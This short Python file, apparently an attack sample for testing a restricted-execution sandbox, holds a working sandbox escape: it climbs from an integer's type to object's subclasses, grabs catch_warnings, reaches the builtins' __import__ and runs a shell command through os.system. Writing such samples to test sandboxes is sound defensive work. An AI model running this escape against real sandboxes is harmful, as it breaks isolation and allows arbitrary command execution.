# Attack: the classic escape from a restricted namespace: `type` of a value, its base `object`,
# every class of the process, and the builtins of a module one of them comes from.
found = [c for c in type(0).__base__.__subclasses__() if c.__name__ == "catch_warnings"][0]
found()._module.__builtins__["__import__"]("os").system("touch PWNED")
